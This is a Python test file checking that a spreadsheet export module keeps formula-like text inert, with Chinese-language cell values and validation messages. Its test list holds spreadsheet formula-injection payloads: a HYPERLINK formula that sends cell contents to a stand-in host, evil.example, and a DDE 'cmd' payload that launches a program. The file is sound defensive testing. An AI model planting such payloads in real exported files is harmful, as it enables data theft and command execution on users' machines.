"""Texts written through exports.cells stay text when the workbook is opened again."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from exports.cells import clean_text, is_formula_like, set_value, text_cell

MALICIOUS = [
    "=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _roundtrip(write_only: bool, values: list) -> tuple[list, bytes]:
    workbook = Workbook(write_only=write_only)
    if write_only:
        sheet = workbook.create_sheet("台账")
        for value in values:
            sheet.append([text_cell(sheet, value)])
    else:
        sheet = workbook.active
        for row, value in enumerate(values, start=1):
            set_value(sheet.cell(row=row, column=1), value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    loaded = load_workbook(io.BytesIO(data))
    return [row[0] for row in loaded.worksheets[0].iter_rows()], data


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        name = next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
        return archive.read(name).decode("utf-8")


def test_formula_like_texts_stay_inert_text_in_both_modes() -> None:
    for write_only in (False, True):
        cells, data = _roundtrip(write_only, MALICIOUS)
        assert [cell.value for cell in cells] == [clean_text(text) for text in MALICIOUS]
        assert all(cell.data_type == "s" for cell in cells)
        assert all(cell.quotePrefix for cell in cells)
        assert "<f>" not in _sheet_xml(data)


def test_ordinary_values_keep_their_type_and_no_quote_prefix() -> None:
    cells, _ = _roundtrip(False, ["正常推进", 12, Decimal("4.25"), None, True])
    assert [cell.value for cell in cells[:3]] == ["正常推进", 12, 4.25]
    assert cells[3].value is None
    assert cells[4].value == "是"
    assert not cells[0].quotePrefix
    assert cells[1].data_type == "n"


def test_control_characters_are_dropped_not_fatal() -> None:
    cells, _ = _roundtrip(True, ["进展\x00情况\x07良好\n第二行"])
    assert cells[0].value == "进展情况良好\n第二行"


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_any_text_comes_back_as_the_same_text(text: str) -> None:
    cells, data = _roundtrip(True, [text])
    expected = clean_text(text)
    if expected:
        assert cells[0].value == expected
        assert cells[0].data_type == "s"
        assert cells[0].quotePrefix == is_formula_like(expected)
    assert "<f>" not in _sheet_xml(data)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_cell_payload_cleans_and_guards_like_set_value(text):
    from openpyxl.cell import WriteOnlyCell

    from exports.cells import cell_payload

    cell = set_value(WriteOnlyCell(Workbook(write_only=True).create_sheet("s")), text)
    kind, payload, quote = cell_payload(text)
    assert kind == "s" and payload == cell.value and quote == bool(cell.quotePrefix)


def test_cell_payload_of_numbers_and_nothing():
    from exports.cells import cell_payload

    assert cell_payload(None) == ("", "", False)
    assert cell_payload(12) == ("n", "12", False)
    assert cell_payload(Decimal("4.2000")) == ("n", "4.2000", False)
    assert cell_payload(True) == ("s", "是", False)


def test_choice_validation_lists_the_choices_and_says_what_to_do_in_chinese():
    from exports.cells import choice_validation

    plain = choice_validation(("未启动", "已完成"), title="推进状态")
    assert (plain.type, plain.formula1, plain.allow_blank, plain.showErrorMessage) == ("list", '"未启动,已完成"', True, True)
    assert plain.error == "推进状态请从下拉列表中选择：未启动、已完成。" and plain.errorTitle == "推进状态"
    assert not plain.showInputMessage and plain.prompt is None
    hinted = choice_validation(["正常推进"], title="状态", allow_blank=False, prompt=True)
    assert hinted.showInputMessage and hinted.prompt == "请从下拉列表中选择" and hinted.allow_blank is False
